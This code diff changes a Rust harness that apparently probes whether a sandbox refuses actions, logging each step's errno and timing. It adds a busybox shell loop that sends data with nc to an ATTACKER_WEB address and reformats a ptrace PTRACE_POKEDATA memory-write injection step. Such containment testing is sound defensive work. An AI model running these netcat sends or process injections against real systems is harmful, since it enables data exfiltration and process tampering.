@@ -44,6 +44,8 @@ pub struct Step {
     pub step: String,
     /// Boot clock before it.
     pub boot_ns: u64,
+    /// Boot clock after it.
+    pub over_ns: u64,
     /// 0 = it worked.
     pub errno: i32,
 }
@@ -62,14 +64,15 @@ impl Diary {
 
     /// Does something and writes down how it ended; false when it was refused.
     fn step(&mut self, step: &str, deed: impl FnOnce() -> io::Result<()>) -> bool {
-        let boot_ns = boot_ns();
+        let began = boot_ns();
         let errno = deed().err().map_or(0, |error| error.raw_os_error().unwrap_or(-1));
-        self.note(step, boot_ns, errno);
+        self.note(step, began, errno);
         errno != EPERM
     }
 
     fn note(&mut self, step: &str, boot_ns: u64, errno: i32) {
-        let line = serde_json::to_string(&Step { step: step.to_owned(), boot_ns, errno }).unwrap_or_default();
+        let step = Step { step: step.to_owned(), boot_ns, over_ns: self::boot_ns(), errno };
+        let line = serde_json::to_string(&step).unwrap_or_default();
         let _ = writeln!(self.file, "{line}");
     }
 
@@ -110,8 +113,8 @@ pub fn run(layout: &Layout, name: &str) -> io::Result<()> {
             Ok(())
         }
         "static" => {
-            let line =
-                format!("while :; do busybox wget -q -T 1 -O /dev/null {}; echo $?; busybox usleep 10000; done", url());
+            let to = format!("{} {}", ATTACKER_WEB.ip(), ATTACKER_WEB.port());
+            let line = format!("while :; do echo x | busybox nc -w 1 {to}; echo $?; busybox usleep 10000; done");
             calls_of(&mut diary, Command::new("/bin/busybox").args(["sh", "-c", &line]))
         }
         "io-uring" => {
@@ -147,7 +150,7 @@ fn connect(to: SocketAddr) -> io::Result<()> {
     TcpStream::connect_timeout(&to, Duration::from_secs(1)).map(drop)
 }
 
-/// Starts a program that prints how each of its calls ended: 0, or 7 and 1, by which curl and wget say that they were refused.
+/// Starts a program that prints how each of its calls ended: 0, or 7 and 1, by which curl and nc say that they were refused.
 fn calls_of(diary: &mut Diary, command: &mut Command) -> io::Result<()> {
     let mut child = None;
     diary.step("exec", || {
@@ -245,7 +248,12 @@ fn inject(diary: &mut Diary) -> io::Result<()> {
         });
         if attached {
             diary.step("write its memory", || {
-                said(libc::ptrace(libc::PTRACE_POKEDATA, child, &raw mut WORD, std::ptr::without_provenance_mut::<libc::c_void>(1)))
+                said(libc::ptrace(
+                    libc::PTRACE_POKEDATA,
+                    child,
+                    &raw mut WORD,
+                    std::ptr::without_provenance_mut::<libc::c_void>(1),
+                ))
             });
             libc::ptrace(libc::PTRACE_DETACH, child, none, none);
             libc::waitpid(child, std::ptr::null_mut(), 0);
